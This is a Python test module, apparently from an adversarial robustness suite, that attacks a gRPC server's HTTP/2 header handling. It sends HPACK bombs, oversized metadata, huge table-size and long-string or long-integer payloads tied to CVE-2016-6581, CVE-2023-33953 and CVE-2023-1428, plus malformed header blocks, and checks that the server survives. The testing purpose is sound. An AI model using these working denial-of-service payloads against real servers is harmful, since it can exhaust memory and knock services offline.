"""HPACK and metadata: bombs, sizes around the limit, and gRPC's known holes."""

import collections

from abuse import messages, wire
from abuse.attack import attack
from abuse.processes import expect
from abuse.wire import Closed, frame, integer, literal

PUT = wire.SERVICE + "Put"
PUT_HEADERS = wire.block(wire.request_headers(PUT))
MAX_FRAME = 16_384


def headers_frames(stream, encoded, end=True):
    """A header block in as many frames as it needs."""
    out, first = b"", True
    while first or encoded:
        part, encoded = encoded[:MAX_FRAME], encoded[MAX_FRAME:]
        flags = wire.END_HEADERS if end and not encoded else 0
        out += frame(wire.HEADERS if first else wire.CONT, flags, stream, part)
        first = False
    return out


def _put_with(world, encoded, acknowledge=True, patience=10):
    """How a put ends that has these headers besides its own."""
    with world.connect() as connection:
        if acknowledge:
            connection.wait_for_settings()
        try:
            connection.send(headers_frames(1, PUT_HEADERS + encoded) +
                            frame(wire.DATA, wire.END_STREAM, 1,
                                  wire.message(messages.put(b"headers", b"x"))))
        except Closed:
            pass
        return connection.result(patience=patience)


@attack()
def header_sizes(world):
    """Just below and far above what a call may have (8 KiB)."""
    below = _put_with(world, literal("x-big", "v" * 7_000))
    expect(below.startswith("status 0"), f"7,000 B of metadata: {below}")
    above = {size: _put_with(world, literal("x-big", b"v" * size))
             for size in (9_000, 20_000, 1 << 20, world.scale(2, 8) << 20)}
    for size, said in above.items():
        expect(not said.startswith("status 0"), f"{size} B of metadata were accepted")
    return f"metadata of 7,000 B: {below}; above the limit: " \
           f"{dict(collections.Counter(above.values()))}"


@attack(max_p99_ratio=0)
def limits_not_acknowledged(world):
    """gRPC holds a client to limits that it has acknowledged: this one does not."""
    said = {size: _put_with(world, literal("x-big", b"v" * size), acknowledge=False,
                            patience=60)
            for size in world.scale((9_000, 1 << 20), (9_000, 1 << 20, 12 << 20, 20 << 20))}
    expect(not said.get(20 << 20, "").startswith("status 0"), "20 MiB were accepted")
    return f"SETTINGS never acknowledged, metadata of {said}"


@attack()
def many_headers(world):
    said = _put_with(world, literal("x", "") * 200_000)
    expect(not said.startswith("status 0"), "200,000 headers were accepted")
    return f"200,000 empty headers: {said}"


@attack()
def hpack_bomb(world):
    """One entry of 4 KiB, a byte each time it is named again (CVE-2016-6581)."""
    entry = b"\x40" + integer(1, 7) + b"x" + integer(4_000, 7) + b"v" * 4_000
    said = []
    for _ in range(world.scale(5, 200)):
        said.append(_put_with(world, entry + b"\xbe" * 100_000))
    expect(not any(one.startswith("status 0") for one in said), "a bomb was accepted")
    return f"{len(said)} HPACK bombs of 400 MB each: {dict(collections.Counter(said))}"


@attack()
def hpack_table_size(world):
    """A dynamic table of 4 GiB asked for, and its size changed 10,000 times."""
    huge = integer(0xFFFFFFFF, 5, 0x20)
    with world.connect() as connection:
        connection.send(headers_frames(1, huge + PUT_HEADERS))
        first = connection.drain(patience=1)
    with world.connect() as connection:
        changes = b"".join(integer(i % 4096, 5, 0x20) for i in range(10_000))
        connection.send(headers_frames(1, changes + PUT_HEADERS))
        second = connection.drain(patience=1)
    return f"a table of 4 GiB: {first}; 10,000 sizes: {second}"


@attack(max_p99_ratio=0, may_disturb=True)
def hpack_long_string(world):
    """CVE-2023-33953: a string of 4 GiB begins; is what comes of it kept? A connection that
    shares its thread stands still for as long, and was reset in 4 of 5 runs."""
    size, sent, peak = world.scale(8, 32) << 20, 0, 0
    before = world.server.usage()["rss_mib"]
    begin = b"\x00" + integer(1, 7) + b"x" + integer(0xF0000000, 7)
    with world.connect() as connection:
        try:
            connection.send(frame(wire.HEADERS, 0, 1, PUT_HEADERS + begin))
            while sent < size:
                connection.send(frame(wire.CONT, 0, 1, b"v" * MAX_FRAME) * 16)
                sent += MAX_FRAME * 16
                peak = max(peak, world.server.usage()["rss_mib"])
        except Closed:
            pass
        said = connection.drain(patience=0.3)
    return f"a header of 4 GiB begun, {sent >> 20} MiB sent: {said}, " \
           f"RSS {before} -> {peak} MiB meanwhile"


@attack(max_p99_ratio=0)
def hpack_long_integer(world):
    """CVE-2023-33953: an integer of very many leading zeros."""
    sent = world.scale(1, 4) << 20
    with world.connect() as connection:
        try:
            connection.send(frame(wire.HEADERS, 0, 1, PUT_HEADERS + b"\x00\x7f"))
            for _ in range(sent // MAX_FRAME):
                connection.send(frame(wire.CONT, 0, 1, b"\x80" * MAX_FRAME))
        except Closed:
            pass
        said = connection.drain(patience=0.3)
    return f"an integer of {sent >> 20} MiB: {said}"


@attack()
def hpack_invalid(world):
    """Indexes out of the table, Huffman codes that are none, blocks cut short."""
    blocks = {
        "index 0": b"\x80", "index 1,000": integer(1000, 7, 0x80),
        "bad Huffman": b"\x00\x01x\x84\xff\xff\xff\xff", "cut short": b"\x00\x05ab",
        "upper case": literal("UPPER", "x"), "empty name": literal("", "x"),
        "a zero in a value": literal("x", b"a\x00b"),
        "a line end in a value": literal("x", b"a\r\nb"),
        "unknown pseudo header": literal(":nothing", "x"),
        "two paths": literal(":path", "/x"), "no path": None,
        "GET": None, "bad base64": literal("x-bin", "$$$"),
        "bad timeout": literal("grpc-timeout", "999999999999H"),
    }
    said = {}
    for name, encoded in blocks.items():
        headers = PUT_HEADERS
        if name == "no path":
            headers = wire.block(wire.request_headers(PUT, replace={":path": None}))
        if name == "GET":
            headers = wire.block(wire.request_headers(PUT, replace={":method": "GET"}))
        with world.connect() as connection:
            connection.send(headers_frames(1, headers + (encoded or b"")) +
                            frame(wire.DATA, 1, 1, wire.message(b"")))
            try:
                said[name] = connection.result(patience=1).split()[0]
            except TimeoutError:
                said[name] = "silence"
        expect(world.server.alive(), f"the server died of: {name}")
    return f"{len(said)} wrong header blocks: {dict(collections.Counter(said.values()))}"


# What CVE-2023-1428 takes besides 8 KiB of metadata.
ABORTING = {
    "te": {"te": "x"},
    ":scheme": {":scheme": "x"},
    "grpclb_client_stats": {"grpclb_client_stats": "x"},
}


@attack()
def abort_by_metadata(world):
    """CVE-2023-1428: one wrong header and more metadata than allowed."""
    said = collections.Counter()
    for name, replace in ABORTING.items():
        headers = b"".join(literal(k, v) for k, v in
                           wire.request_headers(PUT, replace=replace))
        for size in (9_000, 70_000):
            for acknowledge in (True, False):
                with world.connect() as connection:
                    if acknowledge:
                        connection.wait_for_settings()
                    connection.send(headers_frames(1, headers + literal("x", "v" * size)))
                    try:
                        said[" ".join(connection.result(patience=1).split()[:2])] += 1
                    except TimeoutError:
                        said["silence"] += 1
                # It is still there, and takes connections.
                with world.connect() as connection:
                    connection.wait_for_settings()
                expect(world.server.alive(), f"the server died of {name} and {size} B")
    return f"CVE-2023-1428, {sum(said.values())} forms: {dict(said)}"
